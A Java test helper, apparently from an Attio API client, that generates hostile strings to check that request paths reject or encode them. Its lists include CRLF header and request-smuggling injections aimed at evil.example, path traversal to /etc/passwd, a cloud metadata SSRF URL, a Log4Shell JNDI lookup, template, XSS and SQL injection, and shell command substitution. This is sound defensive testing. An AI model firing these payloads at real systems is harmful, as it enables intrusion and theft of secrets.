package dev.toolsmith.attio.wire;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Random;
import java.util.Set;

/** Texts that try to get out of their place in a request. */
final class HostileTexts {

    private static final List<String> DOTS =
            List.of(".", "..", "%2e%2e", "%2E%2e", ".%2e", "%2e.", "%2e", "%252e%252e", "．．", "․․", "‥", "．", ".．");
    private static final List<String> AROUND =
            List.of("@", "@/", "/@", "a/@/b", "@\\", "\\@", "a\\@\\b", "@/../x", "@;x=1", "@;/x", "/@;a/b");
    private static final List<String> UNTRANSPORTABLE = List.of(
            "",
            "\r\nHost: evil.example",
            "a\r\n\r\nGET /v2/self HTTP/1.1\r\nHost: evil.example\r\n\r\n",
            "a\nb",
            "a\rb",
            "a\u0000b",
            "\t",
            "\u0001",
            "\u001b[2J",
            "\u007f",
            "\u0080",
            "\u0085",
            "\u009f",
            "\ud800",
            "\udfff",
            "a\udc00",
            "\udc00\ud800",
            "x".repeat(513),
            "é".repeat(257),
            "😀".repeat(129),
            "x".repeat(10_240),
            "%2e%2e%2f%2e%2e",
            "..%2f..%2fself",
            "..%5c..%5cself",
            "..%255c",
            "..%252f",
            "../../../../etc/passwd",
            "objects/../../self");
    private static final List<String> TAKEN = List.of(
            "In Progress",
            "A/B",
            "/",
            "//",
            "//evil.example",
            "https://evil.example/",
            "http://169.254.169.254/latest/meta-data",
            "file:///etc/passwd",
            "javascript:alert(1)",
            "50%",
            "%",
            "%%",
            "%zz",
            "%2",
            "%00",
            "%0d%0a",
            "%0d%0aHost:%20evil.example",
            "%c0%ae%c0%ae",
            "%c0%ae%c0%ae/",
            "%u002e%u002e",
            "%ef%bc%8e%ef%bc%8e",
            "%25252e%25252e",
            "%2f",
            "%2F%2f",
            "%5c",
            "%23",
            "%3f",
            "%3fx=1",
            "?x=1",
            "?",
            "#f",
            "#",
            "&a=b",
            "a&b=c",
            "a=b",
            ";a=b",
            "a;b",
            ";",
            "a:b",
            ":",
            "a@b",
            "@evil.example",
            "user:pass@evil.example",
            "a+b",
            "+",
            "a,b",
            "...",
            "....",
            "..a",
            "a..",
            "a..b",
            ".git",
            ".env",
            "x.",
            "\u2215",
            "\u2044",
            "\u29f8",
            "a\u2215..\u2215b",
            "\u3002\u3002",
            "\u00b7\u00b7",
            "\u200b",
            "\u200d",
            "\ufeff",
            "\u202e",
            "\u2066x\u2069",
            "\u2028",
            "\udb40\udc41",
            "Ω",
            "é",
            "e\u0301",
            "ﬁ",
            "ﷺ",
            "日本語",
            "😀",
            "👩‍👩‍👧",
            "{id}",
            "{list}",
            "}",
            "${env:ATTIO_API_KEY}",
            "${jndi:ldap://evil.example/a}",
            "#{7*7}",
            "{{7*7}}",
            "<script>alert(1)</script>",
            "<b>",
            "'",
            "\"",
            "' OR 1=1 --",
            "`id`",
            "$(id)",
            "|",
            "^",
            "~",
            "-",
            "--",
            "_",
            "*",
            "(",
            ")",
            "!",
            "$",
            "=",
            "[x]",
            "a b",
            " ",
            "  a  ",
            "a\\b",
            "C:\\x",
            "\\\\evil\\share",
            "null",
            "undefined",
            "NaN",
            "true",
            "0",
            "-1",
            "1e309",
            "0x7f000001",
            "__proto__",
            "constructor",
            "self",
            "query",
            "records",
            "HTTP/1.1",
            "GET /v2/self",
            "Host: evil.example",
            "x".repeat(512),
            "é".repeat(256));

    private HostileTexts() {}

    /** Texts that must not be part of a path in any form. */
    static List<String> refused() {
        Set<String> refused = new LinkedHashSet<>(UNTRANSPORTABLE);
        for (String around : AROUND) {
            DOTS.forEach(dots -> refused.add(around.replace("@", dots)));
        }
        return List.copyOf(refused);
    }

    /** Texts that are values like any other, once they are encoded. */
    static List<String> taken() {
        return TAKEN;
    }

    /** Texts made of the pieces that attacks are made of, the same ones each time. */
    static List<String> mixed(int many) {
        String[] pieces = {
            ".", "..", "/", "\\", "%", "2e", "2f", "5c", "25", ";", "a", "é", "?", "#", "@", ":", "．", "／", "\r", "\n",
            " ", "😀", "%2e", "0", "&", "=", "\u0301"
        };
        Random random = new Random(20_260_728);
        List<String> texts = new ArrayList<>();
        for (int i = 0; i < many; i++) {
            StringBuilder text = new StringBuilder();
            for (int length = 1 + random.nextInt(7); length > 0; length--) {
                text.append(pieces[random.nextInt(pieces.length)]);
            }
            texts.add(text.toString());
        }
        return texts;
    }
}
